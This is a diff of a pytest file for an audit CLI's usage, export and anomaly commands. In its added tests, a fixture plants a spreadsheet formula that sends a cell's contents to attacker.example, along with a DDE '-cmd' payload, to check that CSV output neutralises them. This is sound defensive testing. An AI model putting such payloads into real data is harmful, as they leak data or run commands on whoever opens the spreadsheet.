@@ -1,7 +1,7 @@
 """``tokenbroker audit ...`` through click's CliRunner, against moto provisioned from
 template.yaml: usage (filters, pages, formats), summary and anomalies (from aggregates
 counted by the real aggregates service), export (every record once, atomic file,
-bounded memory) and bad input (verify: tests/digests/test_verify_cli.py)."""
+bounded memory), verify (real digests sealed with KMS) and bad input."""
 
 from __future__ import annotations
 
@@ -12,7 +12,7 @@ import os
 import tracemalloc
 from collections import Counter
 from collections.abc import Iterator, Mapping
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
@@ -21,11 +21,13 @@ import pytest
 from boto3.dynamodb.types import TypeDeserializer
 from click.testing import CliRunner, Result
 
-from tokenbroker.adapters.aggregates import from_settings as aggregates_service
+from tokenbroker import bootstrap
 from tokenbroker.adapters.ledger_query import ShardPage
 from tokenbroker.adapters.usage import usage_item
 from tokenbroker.cli import audit as audit_cli
+from tokenbroker.cli import audit_time
 from tokenbroker.cli import deployment as cli_deployment
+from tokenbroker.cli.audit_render import USAGE_FIELDS
 from tokenbroker.cli.deployment import load_settings
 from tokenbroker.cli.main import cli
 from tokenbroker.domain.errors import TemporarilyUnavailable
@@ -35,7 +37,18 @@ from tokenbroker.local.provision import Deployment
 from tokenbroker.services.audit import AuditService
 from tokenbroker.settings import Settings
 
-from . import HOUR_MS, REGION, T0, Ledger, iso, ledger, provisioned, record, standard_records
+from . import (
+    DEV_A1,
+    HOUR_MS,
+    REGION,
+    T0,
+    Ledger,
+    iso,
+    ledger,
+    provisioned,
+    record,
+    standard_records,
+)
 
 # Until cli/main.py registers the group (the same two lines this test runs).
 if "audit" not in cli.commands:
@@ -46,7 +59,9 @@ DAY_MS = 24 * HOUR_MS
 SINCE, UNTIL = iso(T0), iso(T0 + 3 * HOUR_MS)
 #: the anomaly scenario's window: a day after the standard records
 W0 = T0 + DAY_MS
-RECORD_KEYS = {f.name for f in audit_cli.RECORD_FIELDS}
+#: the verify scenarios: days before the standard records, sealed explicitly
+V0 = T0 - 5 * DAY_MS
+RECORD_KEYS = {f.name for f in USAGE_FIELDS}
 _des = TypeDeserializer()
 
 
@@ -94,9 +109,11 @@ def _environment(stack: Stack, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) 
 
 
 def count_aggregates(settings: Settings, records: list[UsageRecord]) -> None:
-    service = aggregates_service(settings, boto3.client("dynamodb"), clock=lambda: T0 / 1000)
-    for r in records:
-        assert service.count({k: _des.deserialize(v) for k, v in usage_item(r).items()})
+    """As the stream function would (moto runs no stream), in batches of 100."""
+    service = bootstrap.build(settings, aws=boto3.client).aggregates
+    images = [{k: _des.deserialize(v) for k, v in usage_item(r).items()} for r in records]
+    for start in range(0, len(images), 100):
+        assert service.count_batch(images[start : start + 100]).malformed == ()
 
 
 def run(*args: str) -> Result:
@@ -149,9 +166,11 @@ def test_usage_by_principal_lists_its_records_newest_first_with_the_ledger_schem
     stack: Stack,
 ) -> None:
     rows = ok_json("usage", "--principal", "bob", "--since", SINCE, "--until", UNTIL)
-    assert [r["id"] for r in rows] == stack.ledger.expected(T0, T0 + 3 * HOUR_MS, principal="bob")
+    assert [r["record_id"] for r in rows] == stack.ledger.expected(
+        T0, T0 + 3 * HOUR_MS, principal="bob"
+    )
     assert all(set(r) == RECORD_KEYS for r in rows)
-    assert rows[0]["time"] == audit_cli.iso_ms(rows[0]["at"])
+    assert rows[0]["time"] == audit_cli.iso_ms(rows[0]["at_ms"])
     assert rows[0]["time"].endswith("Z")
 
 
@@ -164,7 +183,7 @@ def test_usage_filters_combine(stack: Stack) -> None:
     expected = stack.ledger.expected(
         T0, T0 + 3 * HOUR_MS, principal="alice", model="chat", decision="deny"
     )
-    assert [r["id"] for r in rows] == expected
+    assert [r["record_id"] for r in rows] == expected
     assert expected
     assert {(r["principal"], r["resource"], r["decision"]) for r in rows} == {
         ("alice", "chat", "deny")
@@ -172,18 +191,18 @@ def test_usage_filters_combine(stack: Stack) -> None:
 
 
 def test_usage_pages_follow_the_printed_next_token_without_repeats_or_gaps(stack: Stack) -> None:
-    args = ["usage", "--device", "dev-a1", "--since", SINCE, "--until", UNTIL, "--limit", "7"]
+    args = ["usage", "--device", DEV_A1, "--since", SINCE, "--until", UNTIL, "--limit", "7"]
     seen: list[str] = []
     token = ""
     for _ in range(100):
         result = ok(*args, *(["--next-token", token] if token else []), "--output", "json")
-        seen += [r["id"] for r in json.loads(result.stdout)]
+        seen += [r["record_id"] for r in json.loads(result.stdout)]
         notes = result.stderr.strip().splitlines()
         if not notes:
             break
         (note,) = notes  # stdout stays parseable; the next page's command is on stderr
         token = note.rsplit(" ", 1)[1]
-    assert seen == stack.ledger.expected(T0, T0 + 3 * HOUR_MS, device="dev-a1")
+    assert seen == stack.ledger.expected(T0, T0 + 3 * HOUR_MS, device=DEV_A1)
     assert len(seen) > 7
 
 
@@ -192,7 +211,6 @@ def test_usage_as_a_table_shows_iso_times_and_the_next_page_command_below(stack:
     lines = out.stdout.splitlines()
     assert lines[0].split() == [
         "time",
-        "id",
         "event",
         "decision",
         "reason",
@@ -200,6 +218,7 @@ def test_usage_as_a_table_shows_iso_times_and_the_next_page_command_below(stack:
         "jkt",
         "resource",
         "source_ip",
+        "record_id",
     ]
     assert lines[2].startswith("2026-11-27T")
     assert len(lines) == 2 + 3 + 2
@@ -210,7 +229,7 @@ def test_usage_as_csv_has_a_header_and_one_row_per_record(stack: Stack) -> None:
     out = ok(*("usage", "--token", "tok-carol-3", "--since", SINCE, "--until", UNTIL, "-o", "csv"))
     rows = list(csv.DictReader(io.StringIO(out.stdout)))
     expected = stack.ledger.expected(T0, T0 + 3 * HOUR_MS, token="tok-carol-3")
-    assert [r["id"] for r in rows] == expected
+    assert [r["record_id"] for r in rows] == expected
     assert set(rows[0]) == RECORD_KEYS
 
 
@@ -313,7 +332,7 @@ def test_an_aws_failure_is_one_line_and_exit_1(monkeypatch: pytest.MonkeyPatch) 
     ],
 )
 def test_times_are_iso_8601_dates_relative_or_now(text: str, expected: int) -> None:
-    assert audit_cli.parse_time(text, 1_800_000_000_000, "--since") == expected
+    assert audit_time.parse_time(text, 1_800_000_000_000, "--since") == expected
 
 
 def test_the_range_defaults_to_the_24_hours_before_now() -> None:
@@ -460,7 +479,7 @@ def test_export_writes_every_record_of_the_range_once_as_json_lines(
         str(target),
     )
     lines = target.read_text().splitlines()
-    ids = [json.loads(line)["id"] for line in lines]
+    ids = [json.loads(line)["record_id"] for line in lines]
     assert ids == stack.ledger.oldest_first(since, until)
     assert len(set(ids)) == len(ids)
     assert result.stdout == ""
@@ -472,12 +491,12 @@ def test_export_as_csv_has_the_record_header_and_one_row_per_record(
     stack: Stack, tmp_path: Path
 ) -> None:
     target = tmp_path / "out.csv"
-    ok("export", "--since", SINCE, "--until", UNTIL, "--to", str(target), "--format", "csv")
+    ok("export", "--since", SINCE, "--until", UNTIL, "--to", str(target), "--output", "csv")
     with target.open(newline="") as f:
         reader = csv.DictReader(f)
         rows = list(reader)
-    assert reader.fieldnames == [f.name for f in audit_cli.RECORD_FIELDS]
-    assert [r["id"] for r in rows] == stack.ledger.oldest_first(T0, T0 + 3 * HOUR_MS)
+    assert reader.fieldnames == [f.name for f in USAGE_FIELDS]
+    assert [r["record_id"] for r in rows] == stack.ledger.oldest_first(T0, T0 + 3 * HOUR_MS)
 
 
 def test_export_to_dash_streams_to_standard_output(stack: Stack) -> None:
@@ -491,7 +510,7 @@ def test_export_to_dash_streams_to_standard_output(stack: Stack) -> None:
         "--to",
         "-",
     )
-    ids = [json.loads(line)["id"] for line in result.stdout.splitlines()]
+    ids = [json.loads(line)["record_id"] for line in result.stdout.splitlines()]
     assert ids == stack.ledger.oldest_first(since, until)
     assert len(ids) == 12  # the run of equal times
 
@@ -504,11 +523,11 @@ def test_a_failed_export_leaves_no_file_and_exits_1(
     real = DynamoLedgerQuery.query_shard
     calls = Counter[str]()
 
-    def flaky(self: DynamoLedgerQuery, *args: Any, **kw: Any) -> ShardPage:
+    def flaky(self: DynamoLedgerQuery, index: str, key: str, *args: Any, **kw: Any) -> ShardPage:
         calls["n"] += 1
-        if calls["n"] > 200:  # well into the second hour
+        if key.startswith("2026-11-27T01"):  # the second hour: the first is written
             raise TemporarilyUnavailable("dynamodb:Query failed (InternalServerError)")
-        return real(self, *args, **kw)
+        return real(self, index, key, *args, **kw)
 
     monkeypatch.setattr(DynamoLedgerQuery, "query_shard", flaky)
     target = tmp_path / "out.jsonl"
@@ -530,12 +549,12 @@ class SyntheticLedger:
     ``at``, Limit, LastEvaluatedKey). Records are built before measuring; each page
     hands out fresh dicts, as deserialising a DynamoDB response does."""
 
-    def __init__(self, records: list[dict[str, Any]]) -> None:
-        self.partitions: dict[str, list[dict[str, Any]]] = {}
-        for r in records:
-            self.partitions.setdefault(r["hour_shard"], []).append(r)
+    def __init__(self, records: list[tuple[str, UsageRecord]]) -> None:
+        self.partitions: dict[str, list[UsageRecord]] = {}
+        for key, r in records:
+            self.partitions.setdefault(key, []).append(r)
         for items in self.partitions.values():
-            items.sort(key=lambda r: r["at"])
+            items.sort(key=lambda r: r.at_ms)
 
     def query_shard(
         self,
@@ -553,29 +572,28 @@ class SyntheticLedger:
         assert not newest_first
         assert not equals
         items = [
-            r for r in self.partitions.get(partition_key, []) if since_ms <= r["at"] < until_ms
+            r for r in self.partitions.get(partition_key, []) if since_ms <= r.at_ms < until_ms
         ]
         start = start_key["pos"] if start_key else 0
-        page = [dict(r) for r in items[start : start + limit]]
+        page = [replace(r) for r in items[start : start + limit]]
         more = start + limit < len(items)
         return ShardPage(page, {"pos": start + limit} if more else None)
 
 
-def synthetic(n: int) -> list[dict[str, Any]]:
+def synthetic(n: int) -> list[tuple[str, UsageRecord]]:
     out = []
     for i in range(n):
-        item = usage_item(record(T0 + 1 + (i * 3_599_000) // n, f"p{i % 40}", device=f"d{i}"))
-        r = {k: _des.deserialize(v) for k, v in item.items()}
-        plain = {k: int(v) if k in ("at", "ttl") else v for k, v in r.items()}
-        assert plain["hour_shard"] in partition_keys("by_hour", "2026-11-27T00")
-        out.append(plain)
+        r = record(T0 + 1 + (i * 3_599_000) // n, f"p{i % 40}", device=f"d{i}")
+        key = usage_item(r)["hour_shard"]["S"]
+        assert key in partition_keys("by_hour", "2026-11-27T00")
+        out.append((key, r))
     return out
 
 
-def peak_export_bytes(records: list[dict[str, Any]], tmp: Path, page_size: int) -> int:
+def peak_export_bytes(records: list[tuple[str, UsageRecord]], tmp: Path, page_size: int) -> int:
     fake = SyntheticLedger(records)
 
-    def service(*, aggregates: bool = False) -> AuditService:
+    def service() -> AuditService:
         return AuditService(fake, export_page_size=page_size, workers=1)
 
     with pytest.MonkeyPatch.context() as mp:
@@ -599,7 +617,7 @@ def test_export_memory_does_not_grow_with_the_number_of_records(tmp_path: Path) 
     # 2,000 records in an hour already fill every shard's first page, so 8,000 must not
     # cost more; pages that hold a shard's whole hour cost about four times as much.
     small, large = synthetic(2_000), synthetic(8_000)
-    per_shard = Counter(r["hour_shard"] for r in small)
+    per_shard = Counter(key for key, _ in small)
     assert len(per_shard) == INDEXES["by_hour"].shards
     assert min(per_shard.values()) >= 2
     peak_export_bytes(small[:300], tmp_path, 2)  # warm up: imports, click, caches
@@ -607,3 +625,108 @@ def test_export_memory_does_not_grow_with_the_number_of_records(tmp_path: Path) 
     assert peaks[8] / peaks[2] < 1.5, peaks
     whole = peak_export_bytes(large, tmp_path, 1000)
     assert whole > 2 * peaks[8], (whole, peaks)
+
+
+# ------------------------------------------------- formula injection, filters (issues 8, 14)
+
+X0 = T0 - 10 * DAY_MS  # a quiet day of its own (in the past: the hour registry is used)
+PLANTED = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def planted(stack: Stack) -> UsageRecord:
+    """A token thief's request: its User-Agent is a spreadsheet formula."""
+    thief = replace(
+        record(X0 + 5000, "mallory", device="dev-m1", decision="deny", source_ip="203.0.113.9"),
+        user_agent=PLANTED,
+        reason="-cmd|' /C calc'!A0",
+    )
+    stack.ledger.write([thief])
+    count_aggregates(stack.settings, [thief])
+    return thief
+
+
+def test_a_formula_planted_as_user_agent_is_inert_in_usage_csv(planted: UsageRecord) -> None:
+    out = ok("usage", "--since", iso(X0), "--until", iso(X0 + HOUR_MS), "-o", "csv").stdout
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert row["user_agent"] == "'" + PLANTED  # text to a spreadsheet, not a formula
+    assert row["reason"] == "'" + planted.reason
+    assert row["principal"] == "mallory"  # ordinary cells are untouched
+    # JSON keeps the data verbatim: only spreadsheet-bound output is neutralised
+    [raw] = ok_json("usage", "--since", iso(X0), "--until", iso(X0 + HOUR_MS))
+    assert raw["user_agent"] == PLANTED
+
+
+def test_a_formula_planted_as_user_agent_is_inert_in_export_csv(
+    planted: UsageRecord, tmp_path: Path
+) -> None:
+    target = tmp_path / "x.csv"
+    since, until = iso(X0), iso(X0 + HOUR_MS)
+    ok("export", "--since", since, "--until", until, "--to", str(target), "--output", "csv")
+    with target.open(newline="") as f:
+        [row] = list(csv.DictReader(f))
+    assert row["user_agent"] == "'" + PLANTED
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_every_formula_start_is_neutralised_by_the_one_csv_helper(cell: str) -> None:
+    from tokenbroker.cli.output import Field, to_csv
+
+    assert to_csv([{"v": cell}], [Field("v")]).splitlines()[1].strip('"').startswith("'")
+
+
+def test_export_keeps_format_as_a_deprecated_name_of_output(
+    planted: UsageRecord, tmp_path: Path
+) -> None:
+    target = tmp_path / "old.csv"
+    since, until = iso(X0), iso(X0 + HOUR_MS)
+    ok("export", "--since", since, "--until", until, "--to", str(target), "--format", "csv")
+    assert target.read_text().startswith("time,record_id,")
+    result = run(
+        *("export", "--since", since, "--until", until, "--to", str(target)),
+        *("--format", "csv", "--output", "jsonl"),
+    )
+    assert_one_line_error(result, 2, "--format", "--output")
+
+
+def test_export_filters_by_principal_device_and_model(stack: Stack) -> None:
+    for flag, value, name in (
+        ("--principal", "bob", "principal"),
+        ("--device", DEV_A1, "device"),
+        ("--model", "embed", "model"),
+    ):
+        result = ok("export", "--since", SINCE, "--until", UNTIL, "--to", "-", flag, value)
+        ids = [json.loads(line)["record_id"] for line in result.stdout.splitlines()]
+        assert ids == stack.ledger.expected(T0, T0 + 3 * HOUR_MS, **{name: value})[::-1]
+        assert ids
+
+
+@pytest.mark.parametrize("device", ["short", "x" * 44, "a" * 42 + "!"])
+def test_a_malformed_device_thumbprint_exits_2(device: str) -> None:
+    for command in ("usage", "export"):
+        args = [command, "--device", device, *(["--to", "-"] if command == "export" else [])]
+        assert_one_line_error(run(*args), 2, "--device", "thumbprint")
+
+
+def test_usage_filters_by_event_actor_and_source_ip(stack: Stack, planted: UsageRecord) -> None:
+    span = ("--since", iso(X0), "--until", UNTIL, "--limit", "1000")
+    enrolled = ok_json("usage", "--event", "device_enrolled", *span)
+    assert [r["record_id"] for r in enrolled] == [
+        r.record_id
+        for r in sorted(stack.ledger.records, key=lambda r: (r.at_ms, r.record_id), reverse=True)
+        if r.event == "device_enrolled"
+    ]
+    [thief] = ok_json("usage", "--source-ip", "203.0.113.9", *span)
+    assert thief["record_id"] == planted.record_id
+    assert ok_json("usage", "--actor", "arn:aws:iam::123456789012:user/nobody", *span) == []
+    assert_one_line_error(run("usage", "--event", "teleported"), 2, "--event", "device_revoked")
+
+
+def test_anomalies_for_one_principal(stack: Stack) -> None:
+    span = ("--since", iso(W0), "--until", iso(W0 + DAY_MS))
+    every = ok_json("anomalies", *span)
+    only = ok_json("anomalies", *span, "--principal", "sharer")
+    assert only == [a for a in every if a["principal"] == "sharer"]
+    assert only
+    assert len(only) < len(every)
